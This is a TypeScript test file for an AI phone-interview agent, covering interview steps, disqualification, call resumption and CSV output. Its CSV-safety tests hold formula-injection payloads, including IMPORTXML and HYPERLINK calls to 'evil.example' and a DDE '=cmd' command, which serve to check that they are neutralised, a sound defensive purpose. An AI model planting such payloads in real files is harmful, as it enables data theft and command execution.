import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { TaskGroupResult } from 'react-agent-tasks';
import { renderWorkflow, scriptedLLM, type ScriptRule } from 'react-agent-tasks/testing';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { createExampleCall } from '../shared/session.js';
import { Printer } from '../cli/printer.js';
import { simulate } from '../cli/simulate.js';
import { survey, surveyDisqualified, surveyDropped } from './example.js';
import { Interview } from './interview.js';
import { appendInterview, CSV_COLUMNS, InterviewWriteError, safeCell } from './record.js';
import type { InterviewRecord, InterviewResults, InterviewUserData } from './types.js';

const tempCsv = () => join(mkdtempSync(join(tmpdir(), 'survey-')), 'interviews.csv');

const intro: ScriptRule = { user: /Jane/, toolCalls: [{ name: 'record_intro', args: { name: 'Jane Doe', introNotes: 'Backend developer.' } }] };
const email: ScriptRule = { user: 'jane@example.org', toolCalls: [{ name: 'record_email', args: { email: 'jane@example.org' } }] };

describe('<Interview>', () => {
  test('five steps in order; the intro writes the name to userData; behavioral answers come in any order (StrictMode)', async () => {
    const flow = await renderWorkflow<{ taskResults: InterviewResults }, InterviewUserData>(<Interview />, {
      strict: true,
      llm: scriptedLLM([
        intro,
        email,
        { user: 'By bike.', toolCalls: [{ name: 'record_commute_flexibility', args: { canCommute: true, commuteMethod: 'bike' } }] },
        { user: 'Three years.', toolCalls: [{ name: 'record_experience', args: { years: 3, summary: 'APIs' } }] },
        { user: 'I work alone.', toolCalls: [{ name: 'record_work_style', args: { workStyle: 'alone' } }] },
        { user: 'Patient, but impatient.', toolCalls: [
          { name: 'record_weaknesses', args: { weaknessesSummary: 'impatient' } },
          { name: 'record_strengths', args: { strengthsSummary: 'patient' } },
        ] },
      ]),
    });
    expect(flow.activeTask?.id).toBe('intro');
    await flow.say("I'm Jane Doe.");
    expect(flow.session.userData.candidateName).toBe('Jane Doe');
    await flow.say('jane@example.org');
    await flow.say('By bike.');
    await flow.say('Three years.');
    const partial = await flow.say('I work alone.');
    expect(partial.toolCalls[0]?.output).toContain('remaining information: strengths, weaknesses');
    expect(flow.activeTask?.id).toBe('behavioral');
    await flow.say('Patient, but impatient.');
    expect(await flow.result).toEqual({
      taskResults: {
        intro: { name: 'Jane Doe', intro: 'Backend developer.' },
        email: { email: 'jane@example.org' },
        commute: { canCommute: true, commuteMethod: 'bike' },
        experience: { years: 3, summary: 'APIs' },
        behavioral: { strengths: 'patient', weaknesses: 'impatient', workStyle: 'alone' },
      },
    });
  });

  test('a malformed email goes back to the model as an error and the step stays', async () => {
    const flow = await renderWorkflow(<Interview />, {
      llm: scriptedLLM([intro, { user: 'jane at example', toolCalls: [{ name: 'record_email', args: { email: 'jane at example' }, expectError: true }] }]),
    });
    await flow.say("I'm Jane Doe.");
    const turn = await flow.say('jane at example');
    expect(turn.toolCalls[0]).toMatchObject({ name: 'record_email', isError: true });
    expect(flow.activeTask?.id).toBe('email');
  });

  test.each([
    ['intro', [], {}],
    ['commute', ["I'm Jane Doe.", 'jane@example.org'], { intro: { name: 'Jane Doe', intro: 'Backend developer.' }, email: { email: 'jane@example.org' } }],
  ])('disqualify in %s ends the group early and successfully: the answers so far, the disqualification, endedBy', async (step, before, answers) => {
    const reason = 'Will not commute to the office.';
    const flow = await renderWorkflow<TaskGroupResult, InterviewUserData>(<Interview />, {
      llm: scriptedLLM([intro, email, { user: /won't commute/, toolCalls: [{ name: 'disqualify', args: { reason } }] }]),
    });
    for (const line of before) await flow.say(line);
    expect(flow.activeTask?.id).toBe(step);
    const turn = await flow.say("I won't commute, sorry.");
    expect(turn.toolCalls[0]).toMatchObject({ name: 'disqualify', isError: false, output: JSON.stringify('The candidate is disqualified; the interview is over.') });
    expect(await flow.result).toEqual({ taskResults: { ...answers, [step]: { disqualified: true, reason } }, endedBy: step });
    expect(flow.tree()).toMatch(/task experience: pending[\s\S]*task behavioral: pending/);
  });
});

describe('the survey agent', () => {
  test('the simulated call: a correction, an evaluation from the summary, one CSV row', async () => {
    const csvPath = tempCsv();
    const { call, run } = createExampleCall(survey, { llm: scriptedLLM(survey.simulation.script()) }, { csvPath });
    await call.start(run.agent);
    for (const line of survey.simulation.caller) await call.say(line);
    await call.settled('the interview to be recorded', run.finished);
    await call.close();

    const report = Object.fromEntries(run.report());
    expect(report.status).toBe('completed');
    expect((report.results as InterviewResults).email).toEqual({ email: 'jane.doe@example.com' });
    expect(report.summary).toMatch(/^Jane Doe \(jane\.doe@example\.com\) has six years/);
    expect(report.evaluation).toMatch(/^Advance:/);
    const [header, row, ...rest] = readFileSync(csvPath, 'utf8').trimEnd().split('\n');
    expect(header).toBe(CSV_COLUMNS.join(','));
    expect(rest).toEqual([]);
    expect(row).toContain(',completed,Jane Doe,');
    expect(row).toContain('jane.doe@example.com,true,train,6,');
    expect(row).toContain(',"Jane Doe (jane.doe@example.com) has six years');
    expect(row).toMatch(/,Advance: strong backend experience[^,]*; probe delegation in the next round\.$/);
  });

  test('a disqualified candidate hears a goodbye, the call ends, and gets a row with the answers so far, the reason, the summary and no evaluation', async () => {
    const csvPath = tempCsv();
    const said: string[] = [];
    const { call, run } = createExampleCall(surveyDisqualified, { llm: scriptedLLM(surveyDisqualified.simulation.script()) }, {
      csvPath,
      onEvent: (e) => e.type === 'agent' && said.push(e.text),
    });
    await call.start(run.agent);
    for (const line of surveyDisqualified.simulation.caller) await call.say(line);
    expect(call.closed).toBe(true);
    expect(said.at(-1)).toMatch(/won't move forward with your application\. Goodbye!$/);
    const report = Object.fromEntries(run.report());
    expect(report).toMatchObject({ status: 'disqualified', disqualification: { step: 'commute', reason: 'Will not commute to the office.' }, evaluation: undefined });
    expect(Object.keys(report.results as object)).toEqual(['intro', 'email']);
    const lines = readFileSync(csvPath, 'utf8').trimEnd().split('\n');
    expect(lines).toHaveLength(2);
    expect(lines[1]).toMatch(/,disqualified,Jane Doe,.*,jane@example\.org,,,,,,,,Will not commute to the office\.,"Jane Doe \(jane@example\.org\) builds [^"]*will not commute to the office\.",$/);
  });
});

describe('the survey agent when the line drops (npm start -- --example survey-dropped)', () => {
  /** Runs the example as `npm start` does; returns what it printed and the CSV row (without its time). */
  async function simulated(example: typeof survey) {
    const csvPath = tempCsv();
    const printed: string[] = [];
    await simulate(example, new Printer({ pretty: false, write: (line) => printed.push(...line.split('\n')) }), { csvPath });
    const [, row] = readFileSync(csvPath, 'utf8').trimEnd().split('\n');
    return { printed, row: row!.replace(/^[^,]*,/, '') };
  }

  test('the caller calls back, is welcomed back at the interrupted step, and the interview ends as the uninterrupted one', async () => {
    const [dropped, whole] = [await simulated(surveyDropped), await simulated(survey)];
    const text = dropped.printed.join('\n');
    expect(text).toContain('== The line dropped. Saved: intro, email, commute; experience was being asked. The caller calls back:');
    const callBack = dropped.printed.indexOf('== The line dropped. Saved: intro, email, commute; experience was being asked. The caller calls back:');
    // Nothing answered before the drop is asked again: the next thing the agent says is the welcome.
    expect(dropped.printed.slice(callBack).find((line) => line.startsWith('agent: '))).toBe(
      'agent: Welcome back, Jane! We had just got to your experience: how many years do you have, and on what?',
    );
    expect(dropped.printed.slice(callBack).filter((line) => line.startsWith('caller: '))).toEqual(
      survey.simulation.caller.slice(surveyDropped.simulation.dropsAfter).map((line) => `caller: ${line}`),
    );
    expect(text).toContain('checkpoint: deleted (the call finished)');
    const results = (printed: string[]) => printed.slice(printed.indexOf('== Results'), printed.findIndex((line) => line.startsWith('csv: ')));
    expect(results(dropped.printed)).toEqual(results(whole.printed));
    expect(dropped.row).toBe(whole.row);
  }, 40_000);
});

describe('CSV file', () => {
  test('the header is written once; commas, quotes and newlines in answers are quoted', async () => {
    const csvPath = tempCsv();
    const record: InterviewRecord = {
      status: 'completed',
      results: { intro: { name: 'Doe, Jane', intro: 'Says "hi"\nand waves' } },
      userData: {},
      evaluation: 'ok',
    };
    await appendInterview(csvPath, record);
    await appendInterview(csvPath, record);
    const text = readFileSync(csvPath, 'utf8');
    expect(text.split(CSV_COLUMNS.join(',')).length - 1).toBe(1);
    expect(text).toContain('"Doe, Jane","Says ""hi""\nand waves"');
  });
});

describe('CSV safety', () => {
  const FORMULA = /^[=+\-@\t\r]/;

  test('no cell a spreadsheet would run as a formula: = + - @, a leading tab or CR', async () => {
    const csvPath = tempCsv();
    const hostile = ['=HYPERLINK("http://evil.example","click")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
    const record: InterviewRecord = {
      status: 'completed',
      results: {
        intro: { name: hostile[0]!, intro: hostile[1]! },
        email: { email: hostile[2]! },
        behavioral: { strengths: hostile[3]!, weaknesses: hostile[4]!, workStyle: hostile[5]! },
        experience: { years: -1, summary: 'ok' },
      },
      userData: { candidateName: '=cmd|"/c calc"!A1' },
      disqualification: { step: 'behavioral', reason: '=IMPORTXML("http://evil.example")' },
      evaluation: 'fine',
    };
    await appendInterview(csvPath, record);
    const [row] = parse(readFileSync(csvPath, 'utf8'), { columns: true }) as Array<Record<string, string>>;
    for (const cell of Object.values(row!)) expect(cell).not.toMatch(FORMULA);
    expect(row!.candidate_name).toBe(`'=cmd|"/c calc"!A1`);
    expect(row!.intro).toBe("'+1+1");
    expect(row!.weaknesses).toBe("'\t=1+1");
    expect(row!.years_of_experience).toBe("'-1");
    expect(row!.disqualification_reason).toBe(`'=IMPORTXML("http://evil.example")`);
  });

  test('safeCell: any answer, the cell never starts a formula and keeps the answer after at most one apostrophe', () => {
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.constantFrom('=', '+', '-', '@', '\t', '\r').chain((c) => fc.string().map((rest) => c + rest))), (answer) => {
        const cell = safeCell(answer);
        expect(cell).not.toMatch(FORMULA);
        expect(cell === answer || cell === `'${answer}`).toBe(true);
      }),
    );
  });

  test('a CSV file that cannot be written is reported at once, with the interview, and the call goes on', async () => {
    // A directory cannot be created under a regular file: every write fails at once.
    const blocked = join(mkdtempSync(join(tmpdir(), 'survey-')), 'not-a-directory');
    writeFileSync(blocked, '');
    const csvPath = join(blocked, 'interviews.csv');
    await expect(appendInterview(csvPath, { status: 'completed', results: {}, userData: {} })).rejects.toBeInstanceOf(InterviewWriteError);

    const { call, run } = createExampleCall(survey, { llm: scriptedLLM(survey.simulation.script()) }, { csvPath });
    await call.start(run.agent);
    for (const line of survey.simulation.caller) await call.say(line);
    await call.settled('the interview to be reported', run.finished);
    await call.close();
    const report = Object.fromEntries(run.report());
    expect(report.status).toBe('completed');
    expect(report.csv).toEqual(expect.stringMatching(/^could not write the interview to .*not-a-directory\/interviews\.csv: E[A-Z]+/));

    const disqualified = createExampleCall(surveyDisqualified, { llm: scriptedLLM(surveyDisqualified.simulation.script()) }, { csvPath });
    await disqualified.call.start(disqualified.run.agent);
    for (const line of surveyDisqualified.simulation.caller) await disqualified.call.say(line);
    expect(disqualified.call.closed).toBe(true);
    expect(Object.fromEntries(disqualified.run.report())).toMatchObject({ status: 'disqualified', csv: expect.stringMatching(/^could not write the interview to /) });
  });
});
